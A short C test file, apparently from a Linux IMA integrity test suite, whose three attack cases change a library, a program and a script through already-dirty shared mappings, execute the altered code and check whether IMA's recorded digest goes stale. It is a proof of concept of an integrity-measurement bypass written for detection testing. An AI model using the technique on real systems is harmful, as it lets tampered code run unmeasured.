/*
 * The digest that IMA keeps is of an earlier state: while a page is dirty already, a change through a
 * shared mapping moves no i_version, and overlayfs's own inode does not see that mapping at all.
 * Must be seen: the changed file's digest, or that it is not stable.
 */
#include "attack.h"

static void library(char *bytes)
{
	void *code = map_code(PROT_READ | PROT_EXEC, MAP_PRIVATE);

	call(code);
	munmap(code, PAGE);
	memcpy(bytes, evil_code, sizeof(evil_code));
	munmap(bytes, size_of(CODE));
	truth(CODE);
	call(map_code(PROT_READ | PROT_EXEC, MAP_PRIVATE));
	overwrite(CODE, good_code, sizeof(good_code));
}

static void file(const char *path, char *bytes, const void *evil, const void *end)
{
	size_t size = (char *)end - (char *)evil;
	char good[size];

	memcpy(good, bytes, size);
	execute(path);
	memcpy(bytes, evil, size);
	truth(path);
	execute(path);
	memcpy(bytes, good, size);
}

ATTACK(stale_library) { library(dirty_mapping(CODE)); return 0; }

ATTACK(stale_program) { file(PROGRAM, dirty_mapping(PROGRAM), evil_program, evil_program_end); return 0; }

ATTACK(stale_script) { file(SCRIPT, dirty_mapping(SCRIPT), evil_script, evil_script_end); return 0; }
